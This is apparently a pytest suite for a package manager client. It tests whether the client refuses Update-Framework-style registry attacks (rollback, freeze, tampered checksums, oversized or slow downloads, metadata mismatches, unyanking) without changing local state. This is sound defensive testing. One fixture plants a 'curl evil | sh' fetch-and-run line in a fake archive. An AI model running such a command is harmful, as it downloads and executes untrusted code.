"""Attacks on a registry (SPEC 5.4, after The Update Framework's list), python-tuf style:
change one thing in the served registry, run the client, assert the error code, then assert
that local state (installed extensions, the registry memory, the download cache) did not move."""

from __future__ import annotations

import hashlib
import sqlite3
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any, Iterator

import pytest

from tests.registry.helpers import RegistryDir, archive_bytes, state_snapshot
from tests.support.cli import run_cli
from tests.support.servers import FaultServer, Reply, StaticFileServer
from tests.workspace.conftest import team  # noqa: F401 - shared fixture
from tests.workspace.helpers import BUNDLED, STORY_MANIFEST, Team, crew_archive


def cache_files(home: Path) -> list[str]:
    root = home / "cache" / "downloads" / "sha256"
    return sorted(p.name for p in root.rglob("*") if p.is_file()) if root.is_dir() else []


class Client:
    """The installed client and what must not move when it is attacked."""

    def __init__(self, home: Path) -> None:
        self.home = home

    def run(self, *args: str) -> Any:
        return run_cli([*args, "-o", "json"])

    def ok(self, *args: str) -> dict:
        result = self.run(*args)
        assert result.code == 0, result
        return result.json

    def snapshot(self, *, cache: bool = True) -> dict:
        return {"state": state_snapshot(self.home), "cache": cache_files(self.home) if cache else None}

    def refused(self, code: str, *args: str, cache: bool = True) -> dict:
        """`cache=False`: the archive matched its sha256 (and may be cached); only the
        manifest disagrees with the entry."""
        before = self.snapshot(cache=cache)
        result = self.run(*args)
        assert result.code == (5 if code == "version_not_found" else 4), result
        assert result.json["error"]["code"] == code, result
        assert self.snapshot(cache=cache) == before, "local state moved under attack"
        return result.json


@pytest.fixture
def reg(tmp_path: Path) -> RegistryDir:
    return RegistryDir(tmp_path / "index", "acme")


@pytest.fixture
def client(home: Path, reg: RegistryDir) -> Iterator[Client]:
    reg.publish("demo-ext", "0.1.0")
    with StaticFileServer(reg.root) as server:
        c = Client(home)
        c.ok("registry", "add", "acme", server.url)
        c.ok("ext", "install", "demo-ext")  # the client has now seen serial and checksums
        yield c


def test_rollback_attack(reg: RegistryDir, client: Client) -> None:
    reg.publish("demo-ext", "0.2.0")
    client.ok("ext", "update", "--all", "--check")  # serial 3 seen
    reg.serial = 2  # a mirror replays an older registry.toml
    reg.write()
    doc = client.refused("registry_rollback", "ext", "update", "--all")
    assert doc["failed"][0]["error"]["code"] == "registry_rollback"
    client.refused("registry_rollback", "ext", "install", "demo-ext@0.2.0")


def test_index_json_rollback_is_refused_by_search(reg: RegistryDir, client: Client) -> None:
    old_index = (reg.root / "index.json").read_bytes()
    reg.publish("demo-ext", "0.2.0")
    client.ok("ext", "search")
    (reg.root / "index.json").write_bytes(old_index)
    client.refused("registry_rollback", "ext", "search")


def test_checksum_changed_attack(reg: RegistryDir, client: Client) -> None:
    evil = archive_bytes("demo-ext", "0.1.0", files={"payload.sh": "curl evil | sh"})
    (reg.root / "archives" / "demo-ext-0.1.0.tar.gz").write_bytes(evil)
    reg.change("demo-ext", "0.1.0", sha256=hashlib.sha256(evil).hexdigest(), size=len(evil))
    client.refused("registry_checksum_changed", "ext", "install", "demo-ext@0.1.0", "--force")
    client.refused("registry_checksum_changed", "ext", "info", "demo-ext")


def test_freeze_attack_expired_registry(reg: RegistryDir, client: Client) -> None:
    reg.expires = (datetime.now(UTC) - timedelta(days=1)).strftime("%Y-%m-%dT%H:%M:%SZ")
    reg.publish("demo-ext", "0.2.0")
    client.refused("registry_expired", "ext", "update", "--all")
    client.refused("registry_expired", "ext", "install", "demo-ext@0.2.0")
    updated = client.ok("ext", "update", "--all", "--allow-expired")["updated"]
    assert updated[0]["version"] == "0.2.0"


def test_vanished_version_is_treated_as_yanked(reg: RegistryDir, client: Client) -> None:
    reg.publish("demo-ext", "0.2.0")
    client.ok("ext", "update", "--all", "--check")  # 0.2.0 seen
    reg.remove_version("demo-ext", "0.2.0")
    result = client.run("ext", "install", "demo-ext@0.2.0")
    assert result.code == 5 and result.json["error"]["code"] == "version_not_found"
    assert "vanished" in result.json["error"]["message"] and "treated as yanked" in result.stderr
    info = client.ok("ext", "info", "demo-ext")
    assert info["vanished"] == ["0.2.0"]


def test_arbitrary_software_attack_checksum_mismatch(reg: RegistryDir, client: Client) -> None:
    reg.publish("demo-ext", "0.2.0")
    client.ok("ext", "update", "--all", "--check")  # the (genuine) metadata is seen; the archive is attacked
    evil = archive_bytes("demo-ext", "0.2.0", files={"payload.sh": "x"})
    good_size = reg.version("demo-ext", "0.2.0")["size"]
    (reg.root / "archives" / "demo-ext-0.2.0.tar.gz").write_bytes(evil[:good_size].ljust(good_size, b"\0"))
    client.refused("checksum_mismatch", "ext", "update", "--all")
    client.refused("checksum_mismatch", "ext", "install", "demo-ext@0.2.0", "--allow-unverified", "--yes")


def test_shorter_body_is_a_checksum_mismatch(reg: RegistryDir, client: Client) -> None:
    published = reg.publish("demo-ext", "0.2.0")
    client.ok("ext", "update", "--all", "--check")
    (reg.root / published.url).write_bytes(published.data[:-10])
    client.refused("checksum_mismatch", "ext", "install", "demo-ext@0.2.0")


def test_endless_data_attack(reg: RegistryDir, client: Client) -> None:
    published = reg.publish("demo-ext", "0.2.0")
    client.ok("ext", "update", "--all", "--check")
    (reg.root / published.url).write_bytes(published.data + b"\0" * 4096)
    client.refused("archive_too_large", "ext", "install", "demo-ext@0.2.0")


def test_endless_stream_without_length(home: Path, tmp_path: Path) -> None:
    reg = RegistryDir(tmp_path / "endless", "endless")
    with FaultServer() as fault, StaticFileServer(reg.root) as static:
        url = fault.script("/a.tar.gz", Reply(200, b"x" * 65536, endless=True))
        reg.publish("demo-ext", "0.1.0", url=url, data=b"y" * 1000)
        client = Client(home)
        client.ok("registry", "add", "endless", static.url)
        client.ok("ext", "info", "demo-ext")
        client.refused("archive_too_large", "ext", "install", "demo-ext")


def test_metadata_mismatch_entry_understates_permissions(reg: RegistryDir, client: Client) -> None:
    data = archive_bytes("demo-ext", "0.2.0", grants=("session.read",))
    reg.publish("demo-ext", "0.2.0", data=data, permissions=())
    client.ok("ext", "update", "--all", "--check")
    doc = client.refused("metadata_mismatch", "ext", "install", "demo-ext@0.2.0", cache=False)
    assert "permissions" in doc["error"]["message"]


def test_metadata_mismatch_on_min_host_version(reg: RegistryDir, client: Client) -> None:
    data = archive_bytes("demo-ext", "0.2.0", min_compozy_version="0.9.0")
    reg.publish("demo-ext", "0.2.0", data=data, min_compozy_version="0.5.0")
    client.ok("ext", "update", "--all", "--check")
    client.refused("metadata_mismatch", "ext", "install", "demo-ext@0.2.0", cache=False)


@pytest.mark.parametrize("served", ["", "0" * 64])
def test_metadata_mismatch_on_the_network_digest(served: str, reg: RegistryDir, client: Client) -> None:
    # the archive needs the network (a non-empty digest); the entry says it does not, or names
    # another requirement: the reviewed entry and the archive disagree
    manifest = ('name = "demo-ext"\nversion = "0.2.0"\nmin_compozy_version = "0.5.0"\n'
                '[network_participation]\nrequired = true\nmode = "live"\nchannel_scopes = ["ops"]\n')
    reg.publish("demo-ext", "0.2.0", data=archive_bytes("demo-ext", "0.2.0", manifest=manifest),
                network_digest=served)
    client.ok("ext", "update", "--all", "--check")
    doc = client.refused("metadata_mismatch", "ext", "install", "demo-ext@0.2.0", cache=False)
    assert "network" in doc["error"]["message"]


def test_local_directory_registry_archive_is_verified_too(home: Path, tmp_path: Path) -> None:
    reg = RegistryDir(tmp_path / "local", "local")
    published = reg.publish("demo-ext", "0.1.0")
    client = Client(home)
    client.ok("registry", "add", "local", str(reg.root))
    client.ok("ext", "info", "demo-ext")
    (reg.root / published.url).write_bytes(published.data[:-1] + b"\1")
    client.refused("checksum_mismatch", "ext", "install", "demo-ext")
    (reg.root / published.url).write_bytes(published.data + b"more")
    client.refused("archive_too_large", "ext", "install", "demo-ext")


def test_hostile_entry_file_is_an_index_error(reg: RegistryDir, client: Client) -> None:
    path = reg.root / "extensions" / "de" / "demo-ext.toml"
    for hostile in (b"\xff\xfe garbage", b"name = [[[", b"a = 1\n" * 200_000, b'name = "demo-ext"\ntier = 5\n'):
        path.write_bytes(hostile)
        before = client.snapshot()
        result = client.run("ext", "install", "demo-ext@0.1.0", "--force")
        assert result.code == 3 and result.json["error"]["code"] == "invalid_index", result
        assert "extensions/de/demo-ext.toml" in result.json["error"]["message"]
        assert "Traceback" not in result.stderr
        assert client.snapshot() == before


def test_default_registry_is_exempt_from_rollback_memory(home: Path) -> None:
    client = Client(home)
    client.ok("ext", "search")
    client.ok("registry", "refresh")
    assert state_snapshot(home).get("serials", []) == []


# --- mix-and-match: yanks are sticky; a refused file is never cached (SPEC 5.4) -------------------


def registry_cache(home: Path) -> dict[str, bytes]:
    """Every file of the registry caches (bodies and their validator sidecars)."""
    root = home / "cache" / "registries"
    return {str(p.relative_to(root)): p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file()}


@pytest.fixture
def yanked(reg: RegistryDir, client: Client) -> RegistryDir:
    """0.2.0 published, then yanked; the client saw the yank."""
    reg.publish("demo-ext", "0.2.0")
    reg.change("demo-ext", "0.2.0", yanked=True)
    assert client.ok("ext", "update", "--all", "--check")["updated"] == []
    return reg


def test_a_stale_entry_under_a_fresh_registry_toml_cannot_unyank(yanked: RegistryDir, client: Client) -> None:
    yanked.change("demo-ext", "0.2.0", yanked=False)  # a higher serial, and the entry of before the yank
    before = client.snapshot()
    result = client.run("ext", "update", "--all")
    assert result.code == 0 and result.json["updated"] == [], result
    assert "0.2.0 was seen yanked before; it stays yanked" in result.stderr
    assert client.snapshot()["state"]["extensions"] == before["state"]["extensions"]
    doc = client.refused("version_not_found", "ext", "install", "demo-ext@>=0.2.0")  # nor does a specifier
    assert {"version": "0.2.0", "reason": "yanked (installable only when named exactly)"} in \
        doc["error"]["details"]["versions"]
    assert client.ok("ext", "info", "demo-ext")["versions"][1]["yanked"] is True
    installed = client.ok("ext", "install", "demo-ext@0.2.0")["installed"]  # named exactly: as any yanked version
    assert [(i["name"], i["version"]) for i in installed] == [("demo-ext", "0.2.0")]


def test_a_yank_seen_once_is_remembered_across_operations(yanked: RegistryDir, client: Client, home: Path) -> None:
    yanked.change("demo-ext", "0.2.0", yanked=False)
    client.ok("ext", "update", "--all", "--check")  # the unyanked entry is read (and remembered) once more
    rows = state_snapshot(home)
    conn = sqlite3.connect(home / "state.db")
    try:
        assert conn.execute("SELECT version, yanked FROM registry_versions ORDER BY version").fetchall() == \
            [("0.1.0", 0), ("0.2.0", 1)]
    finally:
        conn.close()
    assert client.ok("ext", "update", "--all")["updated"] == [] and state_snapshot(home) == rows


def test_sync_upgrade_does_not_move_to_a_version_seen_yanked(team: Team) -> None:  # noqa: F811 - the fixture
    team.write_manifest(STORY_MANIFEST)
    for command in (("trust",), ("sync",)):
        assert run_cli([*command, "--workspace", str(team.ws), "-o", "json"]).code == 0
    team.registry.publish(BUNDLED, "0.1.5", data=crew_archive(BUNDLED, "0.1.5"), yanked=True)

    def upgrade() -> Any:
        result = run_cli(["sync", "--upgrade", BUNDLED, "--workspace", str(team.ws), "-o", "json"])
        assert result.code == 0 and result.json["plan"]["empty"] is True, result
        assert 'version = "0.1.0"' in (team.ws / "pkgmgr.lock").read_text()
        return result

    upgrade()  # 0.1.5 seen yanked
    team.registry.change(BUNDLED, "0.1.5", yanked=False)  # a stale entry of before the yank (or an unyank)
    assert "was seen yanked before; it stays yanked" in upgrade().stderr


def test_a_rolled_back_registry_toml_is_not_cached(reg: RegistryDir, client: Client, home: Path) -> None:
    reg.publish("demo-ext", "0.2.0")
    client.ok("ext", "update", "--all", "--check")  # serial 3 seen and cached
    cached = registry_cache(home)
    reg.serial = 2
    reg.write()
    client.refused("registry_rollback", "ext", "update", "--all")
    assert registry_cache(home) == cached  # neither the body nor its ETag
    client.refused("registry_rollback", "ext", "update", "--all")  # asked again, refused again
    assert registry_cache(home) == cached
    reg.serial = 4
    reg.write()
    assert client.ok("ext", "update", "--all")["updated"][0]["version"] == "0.2.0"


def test_a_truncated_entry_that_fails_validation_is_not_kept(home: Path, tmp_path: Path) -> None:
    reg = RegistryDir(tmp_path / "index", "acme")
    reg.publish("demo-ext", "0.1.0")
    entry = (reg.root / "extensions" / "de" / "demo-ext.toml").read_bytes()
    truncated = entry[: entry.index(b"sha256")]  # still TOML: a version without its sha256 and size
    with FaultServer() as fault:
        fault.script("/registry.toml", Reply(200, (reg.root / "registry.toml").read_bytes(), {"ETag": '"r1"'}))
        fault.script("/extensions/de/demo-ext.toml", Reply(200, truncated, {"ETag": '"cut"'}),
                     Reply(200, entry, {"ETag": '"whole"'}))
        fault.script("/archives/demo-ext-0.1.0.tar.gz",
                     Reply(200, (reg.root / "archives" / "demo-ext-0.1.0.tar.gz").read_bytes()))
        client = Client(home)
        client.ok("registry", "add", "acme", fault.url)
        result = client.run("ext", "install", "demo-ext")
        assert result.code == 3 and result.json["error"]["code"] == "invalid_index", result
        assert not any("demo-ext.toml" in name for name in registry_cache(home))
        client.ok("ext", "install", "demo-ext")
        entry_requests = [r for r in fault.requests if r.path == "/extensions/de/demo-ext.toml"]
        assert [r.headers.get("if-none-match") for r in entry_requests] == [None, None]  # "cut" never sent back


def test_registry_refresh_drops_the_cached_validators(reg: RegistryDir, home: Path) -> None:
    reg.publish("demo-ext", "0.1.0")
    with StaticFileServer(reg.root) as server:
        client = Client(home)
        client.ok("registry", "add", "acme", server.url)
        client.ok("ext", "info", "demo-ext")
        client.ok("ext", "info", "demo-ext")
        conditional = [r.headers.get("if-none-match") is not None for r in server.requests]
        assert conditional[-2:] == [True, True]  # registry.toml and the entry, revalidated
        server.clear()
        client.ok("registry", "refresh", "acme")
        client.ok("ext", "info", "demo-ext")
        sent = [(r.path, r.headers.get("if-none-match")) for r in server.requests]
        assert sent[0] == ("/registry.toml", None)
        assert ("/extensions/de/demo-ext.toml", None) in sent  # fetched again, not confirmed by a 304
        server.clear()
        client.ok("ext", "info", "demo-ext")  # the bodies fetched again carry validators again
        assert all(r.headers.get("if-none-match") for r in server.requests)


# --- slow retrieval and servers asking to wait (SPEC 5.4, 6) ---------------------------------------


def test_slow_retrieval_attack_meets_the_download_deadline(home: Path, tmp_path: Path) -> None:
    reg = RegistryDir(tmp_path / "slow", "slow")
    data = archive_bytes("demo-ext", "0.1.0", files={"big.txt": "x" * 4000})
    with FaultServer() as fault, StaticFileServer(reg.root) as static:
        # above any minimum rate, each read well within the read timeout: a trickle for ever
        url = fault.script("/a.tar.gz", Reply(200, data, drip=(16, 0.01)))
        reg.publish("demo-ext", "0.1.0", url=url, data=data)
        home.mkdir(parents=True, exist_ok=True)
        (home / "config.toml").write_text("[network]\nmin_rate = 0\ndeadline = 0.05\ndeadline_rate = 1000000\n")
        client = Client(home)
        client.ok("registry", "add", "slow", static.url)
        client.ok("ext", "info", "demo-ext")
        before = client.snapshot()
        result = client.run("ext", "install", "demo-ext")
        assert result.code == 7 and result.json["error"]["code"] == "network_error", result
        assert "not received within" in result.json["error"]["message"]
        assert client.snapshot() == before and fault.count("/a.tar.gz") == 1


def test_a_server_asking_to_retry_after_120s_fails_at_once(home: Path, tmp_path: Path) -> None:
    reg = RegistryDir(tmp_path / "busy", "busy")
    with FaultServer() as fault, StaticFileServer(reg.root) as static:
        url = fault.script("/a.tar.gz", Reply(503, b"busy", {"Retry-After": "120"}))
        reg.publish("demo-ext", "0.1.0", url=url, data=archive_bytes("demo-ext", "0.1.0"))
        client = Client(home)
        client.ok("registry", "add", "busy", static.url)
        client.ok("ext", "info", "demo-ext")
        before = client.snapshot()
        result = client.run("ext", "install", "demo-ext")
        assert result.code == 7 and result.json["error"]["code"] == "http_error", result
        assert "asked to retry after 120 s" in result.stderr and result.json["error"]["details"]["retry_after"] == 120
        assert client.snapshot() == before and fault.count("/a.tar.gz") == 1  # no wait, no second try


def test_a_retry_wait_longer_than_a_few_seconds_is_said_on_stderr(home: Path, tmp_path: Path,
                                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    """Issue 16 item 8 through the CLI: a 503 asking for 9 s is waited out, and stderr says so
    before the wait (the client's sleep is recorded, not slept)."""
    from pkgmgr.net.http import HttpClient

    waits: list[float] = []
    monkeypatch.setitem(HttpClient.__init__.__kwdefaults__, "sleep", waits.append)
    reg = RegistryDir(tmp_path / "busy", "busy")
    data = archive_bytes("demo-ext", "0.1.0")
    with FaultServer() as fault, StaticFileServer(reg.root) as static:
        url = fault.script("/a.tar.gz", Reply(503, b"busy", {"Retry-After": "9"}), Reply(200, data))
        reg.publish("demo-ext", "0.1.0", url=url, data=data)
        client = Client(home)
        client.ok("registry", "add", "busy", static.url)
        result = client.run("ext", "install", "demo-ext")
        assert result.code == 0, result
        assert waits == [9.0] and fault.count("/a.tar.gz") == 2
        assert "retrying in 9 s (attempt 2 of" in result.stderr and url in result.stderr, result.stderr
